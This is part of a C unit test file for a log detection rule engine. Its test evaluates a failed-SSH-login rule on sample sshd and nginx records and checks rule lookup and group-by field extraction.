static void test_correlation_hooks(void **st)
{
    (void)st;
    /* What a correlation layer uses: find a base rule, evaluate it on an
     * event, read a group-by field through the rule's field mapping. */
    canh_rules_t *r = compile_ok(SSHD_RULE("  sel:\n    event.outcome: failure\n"
                                           "  condition: sel\n"),
                                 false);
    uint32_t idx = sg_rule_find(r, "s1");
    assert_int_equal(idx, 0);
    assert_int_equal(sg_rule_find(r, "t"), 0); /* by title too */
    assert_int_equal(sg_rule_find(r, "nope"), SG_NONE);
    assert_string_equal(sg_rule(r, idx)->title, "t");
    assert_int_equal(sg_rule_total(r), 1);
    uint32_t fr_ip, fr_user;
    assert_int_equal(sg_group_field(r, idx, "source.ip", &fr_ip), CANH_OK);
    assert_int_equal(sg_group_field(r, idx, "user.name", &fr_user), CANH_OK);
    canh_detector_t *d;
    assert_int_equal(canh_detector_create(r, &d), CANH_OK);
    canh_decode_record(dec, SSHD, strlen(SSHD), ev);
    sg_begin(d, ev);
    assert_true(sg_rule_eval(d, idx, ev));
    assert_true(canh_str_eq_c(sg_field_value(d, fr_ip, ev), "10.1.2.3"));
    assert_true(canh_str_eq_c(sg_field_value(d, fr_user, ev), "admin"));
    canh_decode_record(dec, SSHD_V6, strlen(SSHD_V6), ev);
    sg_begin(d, ev);
    assert_false(sg_rule_eval(d, idx, ev));
    assert_true(canh_str_eq_c(sg_field_value(d, fr_ip, ev), "2001:db8::7"));
    canh_decode_record(dec, NGINX, strlen(NGINX), ev);
    sg_begin(d, ev);
    assert_false(sg_rule_eval(d, idx, ev)); /* not its log source */
    canh_detector_destroy(d);
    canh_rules_destroy(r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_equals_and_case),
        cmocka_unit_test(test_contains_startswith_endswith),
        cmocka_unit_test(test_wildcards_and_escapes),
        cmocka_unit_test(test_all),
        cmocka_unit_test(test_re),
        cmocka_unit_test(test_cidr),
        cmocka_unit_test(test_encodings),
        cmocka_unit_test(test_windash),
        cmocka_unit_test(test_exists_null),
        cmocka_unit_test(test_numbers),
        cmocka_unit_test(test_fieldref_neq_time),
        cmocka_unit_test(test_keywords),
        cmocka_unit_test(test_conditions),
        cmocka_unit_test(test_routing),
        cmocka_unit_test(test_field_mapping),
        cmocka_unit_test(test_json_array_field),
        cmocka_unit_test(test_alert_fields),
        cmocka_unit_test(test_order_and_multiple),
        cmocka_unit_test(test_correlation_hooks),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
